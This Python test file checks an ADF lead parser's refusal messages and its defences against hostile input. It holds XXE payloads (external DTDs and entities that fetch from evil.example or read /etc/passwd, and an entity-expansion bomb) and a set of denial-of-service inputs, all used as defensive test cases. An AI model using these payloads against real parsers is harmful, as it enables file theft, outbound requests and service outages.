"""ADF.md, "Refused": each with a sentence that says what is missing; and documents made to do harm."""

import time
from contextlib import suppress
from urllib.parse import urlencode

import pytest
from adf_samples import INNER, adf, lead, mail, refusal
from hypothesis import given
from hypothesis import strategies as st

from nodes.formats.adf import parse_adf
from nodes.formats.content import MIB, Unreadable


def test_several_prospects_and_documents_each_with_its_own_text() -> None:
    two = adf("<contact><name>A</name></contact>").replace("</prospect>", "</prospect><prospect status='resend'>", 1)
    two = two.replace("</adf>", "<customer><contact><name>B</name></contact></customer></prospect></adf>")
    leads = parse_adf(two + "\n" + adf("<contact><name>C</name></contact>")).items
    assert [each["customer"]["name"]["full"] for each in leads] == ["A", "B", "C"]
    assert [each["status"] for each in leads] == ["new", "resend", "new"]
    assert ["<name>A</name>" in each["raw"] for each in leads] == [True, False, False]
    assert leads[2]["raw"].startswith("<adf>")


def test_a_prospect_without_contact_does_not_cost_the_others() -> None:
    content = adf().replace("</adf>", "<prospect><id>9</id></prospect></adf>")
    leads = parse_adf(content)
    assert len(leads.items) == 1
    assert leads.problems == ["Prospect 2 (9) has no customer contact: the <customer> element is missing."]


@pytest.mark.parametrize(
    ("content", "told"),
    [
        ("<adf><prospect></prospect></adf>", "Prospect 1 has no customer contact: the <customer> element is missing."),
        (
            "<adf><prospect><id>EL-1</id><customer><comments>hi</comments></customer></prospect></adf>",
            "Prospect 1 (EL-1) has no customer contact: the <contact> element inside <customer> is missing.",
        ),
        (adf("<contact><name/><email> </email></contact>"), "has an empty customer <contact>: it names no person"),
        ("<adf></adf>", "The <adf> element holds no <prospect>: there is no lead in it."),
        ("", "No ADF lead was found"),
        ("Dear all, see you on Friday", "neither an <adf> nor a <prospect> element"),
        ("From: a@example.com\nSubject: hi\n\nno lead here", "No ADF lead was found"),
        ("<adf><prospect>", "The ADF document is cut off: </adf> is missing."),
        ("<prospect><customer>", "The ADF document is cut off: </prospect> is missing."),
        ("<adf><prospect><customer></prospect></adf>", "cannot be read even after mending it"),
    ],
)
def test_refusals_say_what_is_missing(content: str, told: str) -> None:
    assert told in refusal(content)


BOMB = '<!DOCTYPE adf [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
DTDS: dict[str, str | bytes] = {
    "system": '<!DOCTYPE adf SYSTEM "http://evil.example/adf.dtd">' + INNER,
    "public": '<!DOCTYPE adf PUBLIC "-//ADF//EN" "adf.dtd">' + INNER,
    "entity": BOMB + INNER.replace("Jane", "&b;"),
    "external entity": '<!DOCTYPE adf [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + INNER.replace("Jane", "&x;"),
    "parameter entity": '<!DOCTYPE adf [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>' + INNER,
    "lower case": '<!doctype adf system "x">' + INNER,
    "hidden in HTML": '<!DOCTYPE html><html><!ENTITY x SYSTEM "file:///etc/passwd">' + INNER,
    "shown by HTML": "<pre>" + (BOMB + INNER).replace("<", "&lt;").replace(">", "&gt;") + "</pre>",
    "in a form": urlencode({"adf": BOMB + INNER}),
    "in a mail": mail(text=BOMB + INNER).as_string(),
    "in UTF-16": ('<?xml version="1.0" encoding="utf-16"?>' + BOMB + INNER).encode("utf-16"),
}


@pytest.mark.parametrize("kind", DTDS)
def test_dtds_and_entities_are_refused(kind: str) -> None:
    assert "document type definition" in refusal(DTDS[kind])


def test_a_dtd_inside_the_document_is_never_followed() -> None:
    content = INNER.replace("<adf>", '<adf><!DOCTYPE html SYSTEM "file:///etc/passwd">').replace("Jane", "&xxe;")
    assert lead(content)["customer"]["name"]["full"] == "&xxe; Smith"


def test_talk_about_a_dtd_is_no_dtd() -> None:
    content = adf("<contact><name>J</name></contact><comments><![CDATA[<!DOCTYPE adf>]]></comments>")
    assert lead(content)["comments"] == "<!DOCTYPE adf>"


def test_one_mebibyte_is_the_limit() -> None:
    small = adf("<contact><name>J</name></contact><comments>%s</comments>")
    fits = small.replace("%s", "x" * (MIB - len(small) + 2))
    assert len(fits) == MIB
    assert len(lead(fits)["comments"]) > 1_000_000
    assert "1.0 MiB long; at most 1 MiB is read" in refusal(fits + " ")
    assert "at most 1 MiB is read" in refusal(fits.encode() + b" ")
    assert "at most 1 MiB is read" in refusal(small.replace("%s", "ä" * (MIB // 2)))


HOSTILE = {
    "opened for ever": "<adf>" * 200_000,
    "comments never closed": "<adf>" + "<!--" * 250_000 + "</adf>",
    "CDATA never closed": "<adf>" + "<![CDATA[" * 110_000 + "</adf>",
    "one endless tag": "<adf><prospect " + "a" * 1_000_000 + "</prospect></adf>",
    "one endless attribute": "<adf><prospect " + "a=1 " * 240_000 + "></prospect></adf>",
    "deep": "<adf>" + "<a>" * 130_000 + "</a>" * 130_000 + "</adf>",
    "wide": "<adf>" + "<a/>" * 250_000 + "</adf>",
    "only signs": "<adf>" + "<" * 1_000_000 + "</adf>",
    "ampersands": "<adf>" + "&" * 1_000_000 + "</adf>",
    "blanks": "<adf>" + " " * 1_000_000 + "</adf",
    "headers": "From: a\n" + "X: y\n" * 200_000 + "\n<adf>",
    "nested mail": "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(3000)) + INNER,
    "phones": adf("<contact><name>J</name><phone>" + "1 or " * 190_000 + "</phone></contact>"),
    "long date": adf(rest="<requestdate>" + "1/" * 500_000 + "</requestdate>"),
    "emails": adf("<contact><email>" + "a@" * 500_000 + "</email></contact>"),
    "equals": "<adf " + "=3D" * 330_000 + "</adf>",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_documents_end_soon(kind: str) -> None:
    started = time.perf_counter()
    with suppress(Unreadable):
        parse_adf(HOSTILE[kind])
    assert time.perf_counter() - started < 5


def test_many_prospects_do_not_multiply_the_text() -> None:
    one = "<prospect><customer><contact><name>J</name></contact></customer></prospect>"
    leads = parse_adf("<adf>" + one * 10_000 + "</adf>").items
    assert len(leads) == 10_000
    assert sum(len(each["raw"]) for each in leads) < MIB


@given(st.text(alphabet='<>&;="/!?-[]adfprospectcustomer \n', max_size=300))
def test_no_rubble_breaks_the_reader(rubble: str) -> None:
    for content in (rubble, f"<adf>{rubble}</adf>", adf(f"<contact><name>{rubble}</name></contact>")):
        with suppress(Unreadable):
            parse_adf(content)
